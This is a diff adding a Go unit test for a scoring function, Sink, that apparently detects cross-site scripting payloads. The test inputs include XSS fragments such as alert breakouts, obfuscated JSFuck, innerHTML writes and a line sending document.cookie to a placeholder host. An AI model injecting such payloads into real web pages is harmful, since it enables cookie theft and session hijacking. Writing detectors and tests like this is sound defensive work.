@@ -1,0 +1,30 @@
+package script
+
+import "testing"
+
+func TestSink(t *testing.T) {
+	for _, c := range []struct {
+		name  string
+		s     string
+		score int
+	}{
+		{"breakout call", "'-alert(1)-'", 7},
+		{"template call", ";prompt`1`//", 7},
+		{"cookie", "new image().src='//x/?'+document.cookie", 6},
+		{"tagged template with comments", "x.call /**/ `${eval}`", 7},
+		{"jsfuck", "(![]+[])[+!+[]]", 7},
+		{"encoding probe", "atob(1)", 4},
+		{"dom write", "document.queryselector('p').innerhtml=x", 6},
+		{"bracket member", "self [\"alert\"](1)", 7},
+		{"timer with a name", "settimeout(run, 1)", 7},
+		{"prose about an alert", "we got an alert (about the disk)", 0},
+		{"markdown image", "![alt](x.png)", 0},
+		{"empty list", "[]", 0},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			if _, score := Sink(c.s); score != c.score {
+				t.Errorf("Sink(%q) score %d, want %d", c.s, score, c.score)
+			}
+		})
+	}
+}
